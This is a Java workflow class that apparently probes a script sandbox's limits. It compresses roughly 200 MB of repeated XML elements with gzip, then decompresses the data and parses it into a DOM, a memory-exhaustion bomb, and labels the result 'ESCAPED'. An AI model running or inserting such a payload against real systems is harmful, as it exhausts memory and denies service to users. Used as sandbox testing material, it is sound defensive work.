import io.countersign.script.*;
import java.util.*;
import javax.xml.parsers.*;
import org.w3c.dom.*;
import org.xml.sax.InputSource;
import java.io.*;
import java.util.zip.*;

public class MemXmlGzipBomb implements Workflow {
    @Override
    public WorkflowResult run(WorkflowContext ctx) throws Exception {
        ByteArrayOutputStream packed = new ByteArrayOutputStream();
        try (OutputStream out = new GZIPOutputStream(packed)) {
            out.write("<a>".getBytes());
            byte[] piece = "<b/>".repeat(10_000).getBytes();
            for (int i = 0; i < 5_000; i++) {
                out.write(piece);
            }
        }
        return WorkflowResult.ok("ESCAPED: " + DocumentBuilderFactory.newInstance().newDocumentBuilder().parse(new GZIPInputStream(new ByteArrayInputStream(packed.toByteArray()))));
    }
}
